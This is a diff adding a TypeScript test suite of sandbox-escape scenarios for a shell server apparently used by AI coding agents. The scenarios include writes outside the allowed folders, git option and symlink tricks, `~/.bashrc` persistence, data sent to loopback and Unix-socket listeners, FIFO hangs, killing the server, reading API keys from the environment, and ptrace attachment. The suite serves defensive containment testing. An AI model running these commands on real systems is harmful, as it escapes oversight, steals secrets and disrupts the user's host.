@@ -1,0 +1,263 @@
+/**
+ * The containment suite's scenarios (issue 34, "A containment suite"), grouped the way published sandbox-escape
+ * benchmarks group theirs: escape to the host, persistence for a later host run, exfiltration, denial of service of
+ * the server, secret discovery, local privilege. Each scenario is an attack made from inside ordinary `shell`
+ * calls, judged only by its effect on the host (a marker outside every writable root, a listener that must receive
+ * nothing, a server that must keep answering), never by what the server says about it.
+ *
+ * A scenario runs against a {@link Target}: shellmcp (test/security/containment.test.ts: both backends, a
+ * Codex-style and a plain client) or the Rust reference 0.97 (./generate.ts), so the same attack scores both.
+ */
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+
+/** The six groups. */
+export type Category = "escape" | "persistence" | "exfiltration" | "denial of service" | "secret discovery" | "local privilege";
+
+/** Where a scenario runs: a live server and the host folders it is judged by. */
+export interface Target {
+  /** The workspace: a git repository (one commit), the call's writable root. */
+  ws: string;
+  /** A folder outside every writable root (markers land here when an attack works). */
+  outside: string;
+  /** The server's HOME and CODEX_HOME (outside every writable root). */
+  home: string;
+  /** The server's pid. */
+  pid: number;
+  /** One `shell` call in `ws`. */
+  run(command: string, timeoutMs?: number): Promise<{ exit_code: number; output: string }>;
+}
+
+/** What a scenario needs from the server it runs against. */
+export interface ScenarioSetup {
+  /** The rules file (`default.rules`). */
+  rules?: string;
+  /** Extra variables in the server's environment. */
+  env?: Record<string, string>;
+}
+
+/** The effect on the host: `held` when the attack had none. */
+export interface Verdict {
+  held: boolean;
+  /** What was observed (for a failing test, and the table's notes). */
+  detail: string;
+}
+
+/** One attack. */
+export interface Scenario extends ScenarioSetup {
+  id: string;
+  category: Category;
+  /** One line for the table. */
+  title: string;
+  attack(t: Target): Promise<Verdict>;
+}
+
+/** A Python program as a bash command (kept here, not imported from helpers/attack.ts: this module loads in the fast tier). */
+function py(program: string): string {
+  return `/usr/bin/python3 -c '${program.replaceAll("'", `'\\''`)}'`;
+}
+
+const held = (detail: string): Verdict => ({ held: true, detail });
+const broken = (detail: string): Verdict => ({ held: false, detail });
+
+/** `held` when `path` does not exist after the attack. */
+function absent(path: string, what: string): Verdict {
+  return existsSync(path) ? broken(`${what}: ${path} was written`) : held(`${what}: nothing written`);
+}
+
+/** A TCP listener on 127.0.0.1 that records whatever reaches it; `stop()` returns the bytes received. */
+function loopbackListener(): { port: number; stop: () => string } {
+  let got = "";
+  const server = Bun.listen({
+    hostname: "127.0.0.1",
+    port: 0,
+    socket: {
+      data(_s, d) {
+        got += d.toString();
+      },
+      open(s) {
+        got += "<connected>";
+        void s;
+      },
+    },
+  });
+  return { port: server.port, stop: () => (server.stop(true), got) };
+}
+
+/** A Unix socket listener at `path` that records whatever reaches it. */
+function unixListener(path: string): { stop: () => string } {
+  let got = "";
+  const server = Bun.listen({
+    unix: path,
+    socket: {
+      data(_s, d) {
+        got += d.toString();
+      },
+      open() {
+        got += "<connected>";
+      },
+    },
+  });
+  return { stop: () => (server.stop(true), got) };
+}
+
+/** Whether the target still answers a trivial call within `ms`. */
+async function answers(t: Target, ms = 15_000): Promise<boolean> {
+  const timer = new Promise<false>((res) => setTimeout(() => res(false), ms));
+  const call = t.run("echo alive", 5_000).then(
+    (r) => r.output.includes("alive"),
+    () => false,
+  );
+  return Promise.race([call, timer]);
+}
+
+/** Every scenario, in table order. */
+export const SCENARIOS: readonly Scenario[] = [
+  {
+    id: "escape.direct-write",
+    category: "escape",
+    title: "a command writes a file outside every writable root",
+    async attack(t) {
+      await t.run(`echo x > ${t.outside}/direct 2>/dev/null; true`);
+      return absent(join(t.outside, "direct"), "direct write");
+    },
+  },
+  {
+    id: "escape.option-write",
+    category: "escape",
+    title: "an allowed program's option writes outside (`git log --output`, `git grep -O`)",
+    rules: 'prefix_rule(pattern=["git"], decision="allow")\n',
+    async attack(t) {
+      await t.run(`git log -1 --format=%B --output=${t.outside}/log.sh; git grep -O'touch ${t.outside}/grep-ran' -e one; true`);
+      const a = absent(join(t.outside, "log.sh"), "git log --output");
+      return a.held ? absent(join(t.outside, "grep-ran"), "git grep -O") : a;
+    },
+  },
+  {
+    id: "escape.named-link",
+    category: "escape",
+    title: "a link named like an allowed program (`./id -> /bin/sh`) runs outside",
+    rules: 'prefix_rule(pattern=["id"], decision="allow")\n',
+    async attack(t) {
+      await t.run(`ln -sf /bin/sh id; ./id -c 'touch ${t.outside}/link-ran'; true`);
+      return absent(join(t.outside, "link-ran"), "./id");
+    },
+  },
+  {
+    id: "escape.room-widening",
+    category: "escape",
+    title: "a room program writes `.git/commondir` naming an outside folder; the next room writes there",
+    rules: 'prefix_rule(pattern=["python3"], decision="allow")\n',
+    async attack(t) {
+      const marker = join(t.outside, ".bashrc");
+      const a = `import time; open(".git/commondir", "w").write(${JSON.stringify(t.outside)} + "\\n"); time.sleep(4)`;
+      const b = `open(${JSON.stringify(marker)}, "a").write("pwned\\n")`;
+      await t.run(`python3 -c '${a}' & sleep 1.5; python3 -c '${b}'; wait`, 30_000);
+      return absent(marker, "the second room program");
+    },
+  },
+  {
+    id: "persistence.home-dotfile",
+    category: "persistence",
+    title: "a command appends to `~/.bashrc` (HOME outside the workspace)",
+    async attack(t) {
+      const rc = join(t.home, ".bashrc");
+      writeFileSync(rc, "# user's\n");
+      await t.run(`echo 'touch ${t.outside}/bashrc-ran' >> ${rc} 2>/dev/null; true`);
+      return readFileSync(rc, "utf8") === "# user's\n" ? held("~/.bashrc unchanged") : broken("~/.bashrc was appended to");
+    },
+  },
+  {
+    id: "exfiltration.loopback",
+    category: "exfiltration",
+    title: "a network-off command sends a file to a host listener on 127.0.0.1",
+    async attack(t) {
+      const l = loopbackListener();
+      const prog = `import socket\ns = socket.create_connection(("127.0.0.1", ${l.port}), timeout=3)\ns.sendall(b"secret")\ns.close()`;
+      await t.run(py(prog) + " 2>/dev/null; true");
+      await Bun.sleep(200);
+      const got = l.stop();
+      return got === "" ? held("the listener received nothing") : broken(`the listener received ${JSON.stringify(got)}`);
+    },
+  },
+  {
+    id: "exfiltration.host-unix-socket",
+    category: "exfiltration",
+    title: "a network-off command reaches a host Unix socket (a docker-style daemon)",
+    async attack(t) {
+      const path = join(t.outside, "daemon.sock");
+      const l = unixListener(path);
+      const prog = `import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\ns.settimeout(3)\ns.connect(${JSON.stringify(path)})\ns.sendall(b"GET /containers")\ns.close()`;
+      await t.run(py(prog) + " 2>/dev/null; true");
+      await Bun.sleep(200);
+      const got = l.stop();
+      return got === "" ? held("the socket received nothing") : broken(`the socket received ${JSON.stringify(got)}`);
+    },
+  },
+  {
+    id: "dos.fifo-gitmodules",
+    category: "denial of service",
+    title: "`mkfifo .gitmodules`, then an allowed `git status`: the server must keep answering",
+    rules: 'prefix_rule(pattern=["git", "status"], decision="allow")\n',
+    async attack(t) {
+      const attack = t.run("mkfifo .gitmodules && git status --short; true", 3_000).catch(() => undefined);
+      const timer = new Promise<"hung">((res) => setTimeout(() => res("hung"), 15_000));
+      if ((await Promise.race([attack.then(() => "done" as const), timer])) === "hung") return broken("the attack call never returned");
+      return (await answers(t)) ? held("the server answered the next call") : broken("the server stopped answering");
+    },
+  },
+  {
+    id: "dos.fifo-commondir",
+    category: "denial of service",
+    title: "a FIFO at `.git/commondir` of a repository the command made, then any allowed program",
+    rules: 'prefix_rule(pattern=["ls"], decision="allow")\n',
+    async attack(t) {
+      const attack = t.run("git init -q sub && mkfifo sub/.git/commondir && cd sub && ls; true", 3_000).catch(() => undefined);
+      const timer = new Promise<"hung">((res) => setTimeout(() => res("hung"), 15_000));
+      if ((await Promise.race([attack.then(() => "done" as const), timer])) === "hung") return broken("the attack call never returned");
+      return (await answers(t)) ? held("the server answered the next call") : broken("the server stopped answering");
+    },
+  },
+  {
+    id: "dos.signal-server",
+    category: "denial of service",
+    title: "a command stops (`SIGSTOP`) and kills the server by its pid",
+    async attack(t) {
+      await t.run(`kill -STOP ${t.pid} 2>/dev/null; kill -9 ${t.pid} 2>/dev/null; true`).catch(() => undefined);
+      let alive = true;
+      try {
+        process.kill(t.pid, 0);
+      } catch {
+        alive = false;
+      }
+      if (!alive) return broken("the server was killed");
+      const ok = await answers(t, 5_000);
+      if (!ok) process.kill(t.pid, "SIGCONT");
+      return ok ? held("the server answered the next call") : broken("the server was stopped");
+    },
+  },
+  {
+    id: "secrets.env",
+    category: "secret discovery",
+    title: "a command reads API keys and tokens from the server's environment",
+    env: { OPENAI_API_KEY: "sk-containment-secret", GITHUB_TOKEN: "ghp_containmentsecret" },
+    async attack(t) {
+      const r = await t.run("env");
+      return /containment-?secret/.test(r.output)
+        ? broken("a secret variable reached the command")
+        : held("no secret variable reached the command");
+    },
+  },
+  {
+    id: "privilege.ptrace-server",
+    category: "local privilege",
+    title: "a command attaches to the server with `ptrace` (the user's own process, outside the sandbox)",
+    async attack(t) {
+      const prog = `import ctypes, sys\nlibc = ctypes.CDLL(None, use_errno=True)\nr = libc.ptrace(16, ${t.pid}, 0, 0)\nprint("PTRACE", r, ctypes.get_errno())\nif r == 0:\n    libc.ptrace(17, ${t.pid}, 0, 0)`;
+      const r = await t.run(py(prog) + " 2>&1; true");
+      return /PTRACE 0 /.test(r.output)
+        ? broken("ptrace attached to the server")
+        : held(`refused (${r.output.match(/PTRACE -1 \d+/)?.[0] ?? r.output.trim().slice(0, 60)})`);
+    },
+  },
+];
